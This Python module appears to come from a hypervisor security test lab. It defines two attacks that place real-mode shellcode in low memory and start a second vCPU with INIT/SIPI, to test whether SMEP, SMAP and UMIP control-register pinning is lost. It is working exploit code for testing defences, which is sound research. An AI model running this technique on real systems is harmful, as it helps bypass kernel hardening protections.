"""Starting another vCPU: INIT clears its control registers, and SIPI runs the attacker's code in real mode."""

from __future__ import annotations

import struct
import time
from collections.abc import Callable

from vtlab.client.driver import Driver
from vtlab.client.machine import Machine
from vtlab.client.symbols import Symbols
from vtlab.x86.registers import Cr0, Cr4
from vtlab_attacks.evidence import Attack, Attempts, Evidence, Run, observe
from vtlab_attacks.state import direct, memory

ICR = 0x40000071  # the synthetic interrupt command register: destination in bits 63:56
INIT, SIPI = 0x4500, 0x4600
AP = 1
PAGE = 0x60000  # below 1 MiB, nobody's
MARK = 0x800  # in it
PATIENCE = 10.0  # seconds for the other vCPU to be seen

# mov ax, cs; mov ds, ax
_SEGMENTS = bytes.fromhex("8cc8 8ed8")
# mov dword [MARK], 0x50494e53; hlt; jmp $-1
MARKS = _SEGMENTS + bytes.fromhex("66c706") + struct.pack("<H", MARK) + b"SNIP" + bytes.fromhex("f4 ebfd")
# inc dword [MARK]; pause; jmp to inc
COUNTS = _SEGMENTS + bytes.fromhex("66ff06") + struct.pack("<H", MARK) + bytes.fromhex("f390 ebf7")
PINNED = int(Cr4.SMEP | Cr4.SMAP | Cr4.UMIP)


def start(code: bytes, state: Callable[[Machine], object], show: Callable[[object], str], what: str) -> Run:
    """Puts code into a page below 1 MiB and has the other vCPU run it."""

    def run(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
        driver.write_bytes(direct(PAGE), code)
        before = state(machine)

        def steps(attempts: Attempts) -> None:
            for command in (INIT, SIPI | PAGE >> 12, SIPI | PAGE >> 12):
                if not attempts.step(driver.call, symbols["wrmsr"], ICR, AP << 56 | command):
                    return
            deadline = time.monotonic() + PATIENCE
            while state(machine) == before and time.monotonic() < deadline:
                time.sleep(0.01)

        return observe(what, lambda: state(machine), steps, symbols, show=show)

    return run


def _marked(machine: Machine) -> object:
    """Whether the code has run, and on which pins."""
    if memory(machine, PAGE + MARK, 4) != b"SNIP":
        return "waits"
    return f"ran with {(machine.registers(AP).registers.cr4 & PINNED).bit_count()}/3 of SMEP, SMAP, UMIP"


def _counting(machine: Machine) -> object:
    """Whether the code goes on, without paging."""
    if not any(memory(machine, PAGE + MARK, 4) or b""):
        return "waits"
    return "runs with paging" if machine.registers(AP).registers.cr0 & Cr0.PG else "runs without paging"


SOURCE = "Lutomirski 2020 on CR pinning: SIPI enters real mode without SMEP and SMAP"
TRANSITION_ATTACKS = [
    Attack(
        "ap-without-smep",
        "Starts another vCPU, whose control registers INIT has cleared, with code of its own",
        SOURCE,
        start(MARKS, _marked, str, "CPU 1"),
        vp_count=2,
    ),
    Attack(
        "ap-unpinned-window",
        "Starts another vCPU with code that never turns paging on, and lets it run",
        SOURCE,
        start(COUNTS, _counting, str, "CPU 1"),
        vp_count=2,
    ),
]
